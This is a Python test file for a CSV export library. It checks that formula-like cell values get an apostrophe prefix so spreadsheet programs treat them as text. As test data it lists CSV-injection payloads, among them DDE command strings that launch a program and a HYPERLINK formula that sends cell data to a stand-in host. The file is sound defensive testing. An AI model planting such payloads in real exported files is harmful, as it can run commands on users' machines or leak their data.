"""Tables as CSV: what stands in them is text, whatever it would be in a program for tables."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pecia_core.document import Block, Document, Page
from pecia_core.formats import document_csv, note_csv, tables_csv
from pecia_core.formats.cells import cell
from pecia_core.geometry import BBox, Polygon
from pecia_core.vocabulary import BlockKind

PLACE = Polygon.from_bbox(BBox(0, 0, 10, 10))


def document(*contents: str, kind: BlockKind = BlockKind.TABLE) -> Document:
    """Pages, each with one block that a vision model wrote."""
    return Document(tuple(Page(10, 10, (Block(kind, PLACE, content=one),)) for one in contents))


HOSTILE = ["=1+1", "=cmd|'/C calc'!A0", "+SUM(A1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", " =1", "\uff1d1+1"]
HOSTILE += ['=HYPERLINK("https://hostile.test?"&A1)', "=IMPORTXML(A1)", "|x", "+a", "-", "- 5 apples", "+1+1"]
HOSTILE += ["-1=1", "--5", "\t=1"]
HARMLESS = ["", "a", "-5", "+5", "-1.234,50", "- 36.000", "-12 %", "1=1", "a@b.test", "3-4"]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_no_cell_is_a_formula(hostile: str) -> None:
    """An apostrophe says so to every program for tables."""
    assert cell(hostile) == f"'{hostile}"


@pytest.mark.parametrize("text", HARMLESS)
def test_text_and_numbers_stay_as_they_are(text: str) -> None:
    """A discount is a number."""
    assert cell(text) == text


def test_tables_of_all_pages_one_after_the_other() -> None:
    """Quoted where it has to be, an empty line between them; nothing where there is none."""
    one = '<table><tr><td>a "b"</td><td>1,5</td></tr><tr><td>=1</td></tr></table>'
    written = '"a ""b""","1,5"\r\n\'=1,\r\n'
    assert document_csv(document(one, one)) == f"{written}\r\n{written}"
    assert document_csv(document(f"Text.\n{one}\nMore.", kind=BlockKind.PARAGRAPH)).startswith('"a ""b""')
    assert document_csv(document("<table>", "no table", kind=BlockKind.PARAGRAPH)) == ""


CELLS = st.lists(st.text("ab=+-@,;'\"1. ", max_size=6), min_size=2, max_size=2)


@given(st.lists(CELLS, min_size=1, max_size=4))
def test_what_was_read_comes_back(cells: list[list[str]]) -> None:
    """But for white space, and the apostrophe; and no cell of it begins a formula that is no number."""
    rows = "".join(f"<tr>{''.join(f'<td>{one}</td>' for one in row)}</tr>" for row in cells)
    back = list(csv.reader(io.StringIO(document_csv(document(f"<table>{rows}</table>")))))
    assert back == [[cell(" ".join(one.split())) for one in row] for row in cells]


def test_what_is_missing_is_a_row_that_is_no_formula() -> None:
    """A sentence about a page stands where its tables would; its words are not trusted either."""
    assert note_csv("Page 2, too") == '"Page 2, too"\r\n'
    assert note_csv("=1") == "'=1\r\n"
    assert tables_csv([]) == tables_csv(["no table"]) == ""
